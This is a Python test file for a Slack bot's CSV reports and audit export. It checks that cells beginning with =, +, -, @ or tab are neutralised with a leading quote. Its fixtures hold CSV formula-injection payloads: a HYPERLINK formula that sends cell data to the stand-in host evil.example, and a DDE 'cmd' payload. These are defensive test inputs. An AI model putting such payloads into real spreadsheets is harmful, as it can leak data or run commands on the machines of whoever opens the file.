"""Every CSV the bot writes neutralises cells a spreadsheet would run as a formula (OWASP's
advice: a leading single quote before =, +, -, @, tab or carriage return), and stays readable."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from sqlalchemy.ext.asyncio import AsyncEngine

from storage.audit import Actor, AuditAction, Subject, record_event
from storage.db import Sessions
from tests.cli import run_cli
from tests.conftest import RunningBot
from tests.fakes.nylas import FakeNylas
from tests.fakes.slack import FakeSlack
from tests.grant_flow import (
    confirm,
    plan,
    run_csv_preamble,
    run_csv_rows,
    seed_credential,
    start_run,
    wait_for_csv,
)

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"x")'
FORMULA_ADDRESS = "=1+1@acme.com"


def rows_of(content: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content)))


async def test_the_run_csv_neutralises_formulas_in_addresses_and_nylas_errors(
    bot: RunningBot, slack: FakeSlack, nylas: FakeNylas
) -> None:
    nylas.permanent_failures["fails@acme.com"] = (400, "=cmd|' /C calc'!A0")
    users = f"{FORMULA_ADDRESS}\n+plus@acme.com\nfails@acme.com\nplain@acme.com"
    await start_run(bot, slack, nylas, users)
    rows = {row["email"]: row for row in run_csv_rows(await wait_for_csv(slack))}
    assert set(rows) == {"'=1+1@acme.com", "'+plus@acme.com", "fails@acme.com", "plain@acme.com"}
    assert rows["fails@acme.com"]["error"].startswith("'=cmd|' /C calc'!A0")
    assert rows["plain@acme.com"]["outcome"] == "created"  # ordinary cells are untouched


async def test_the_run_csv_comment_keeps_a_tricky_reason_in_one_inert_cell(
    bot: RunningBot, slack: FakeSlack, nylas: FakeNylas
) -> None:
    """A comma, a quote, a newline or a formula in the reason cannot add a line or a cell that
    a spreadsheet would run: the comment is one quoted cell starting with `# `."""
    credential = await seed_credential(bot, nylas)
    reason = 'Ticket "OPS-1", then\n=HYPERLINK("x") ,+1'
    await confirm(bot, await plan(bot, slack, credential, "a@acme.com", reason=reason))
    report = await wait_for_csv(slack)
    preamble = run_csv_preamble(report)
    assert preamble[2] == '# reason: Ticket "OPS-1", then =HYPERLINK("x") ,+1'
    assert preamble[3].startswith("# approved by: ")  # no approval channel: the requester
    assert [row["email"] for row in run_csv_rows(report)] == ["a@acme.com"]


async def test_the_audit_export_neutralises_formulas_in_every_column(
    engine: AsyncEngine, sessions: Sessions, tmp_path: Path
) -> None:
    async with sessions() as session:
        await record_event(
            session=session,
            actor=Actor("U0EVE", HYPERLINK),
            action=AuditAction.GRANT_FAILED,
            outcome="failed",
            subject=Subject(email=FORMULA_ADDRESS, grant_id="@SUM(1+1)", credential_id="-2+3"),
            request_id="\t=1+2",
        )
        await session.commit()
    code, out, err = await run_cli(engine, "audit", "export", "--format", "csv", cwd=tmp_path)
    assert code == 0, err
    [row] = rows_of(out)
    assert row["actor_name"] == "'" + HYPERLINK  # still readable, never evaluated
    assert row["email"] == "'=1+1@acme.com"
    assert (row["grant_id"], row["credential_id"]) == ("'@SUM(1+1)", "'-2+3")
    assert row["request_id"] == "'\t=1+2"
    assert row["seq"] == "1" and row["action"] == "grant.failed"
